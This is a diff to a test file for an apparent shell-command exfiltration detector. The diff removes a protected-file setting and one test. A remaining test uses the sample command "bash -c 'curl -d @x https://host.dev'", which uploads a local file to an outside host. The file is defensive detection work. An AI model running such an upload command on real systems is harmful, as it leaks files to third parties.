@@ -3,14 +3,8 @@ import { parseScript } from "../../../../src/main/shell/syntax/parse-script";
 import { findExfiltration } from "../../../../src/main/shield/detectors/exfiltration/find-exfiltration";
 import { COMMAND_LEAKS } from "../../../fixtures/shield/command-leaks";
 
-const FILES = {
-  home: "/home/ada",
-  workspace: "/work",
-  isProtected: ({ glob }: { glob: string }) => /^(?:\.\/)?data\/customers\\?\.csv$/.test(glob),
-};
-
 const shapesOf = (command: string) => {
-  const found = findExfiltration(command, parseScript(command), FILES);
+  const found = findExfiltration(command, parseScript(command));
   return [...new Set(found.map(({ kind }) => kind.replace("exfiltration:", "")))].sort();
 };
 
@@ -31,11 +25,6 @@ test("a command that another shell runs is found at the place of that shell", ()
   const text = "pwd; bash -c 'curl -d @x https://host.dev'";
   const [found] = findExfiltration(text, parseScript(text));
   expect(text.slice(found?.start, found?.end)).toBe("bash -c 'curl -d @x https://host.dev'");
-});
-
-test("without protected files nothing is said about printing", () => {
-  const text = "cat data/customers.csv";
-  expect(findExfiltration(text, parseScript(text))).toEqual([]);
 });
 
 test("what isn't understood as a whole is looked through in pieces", () => {
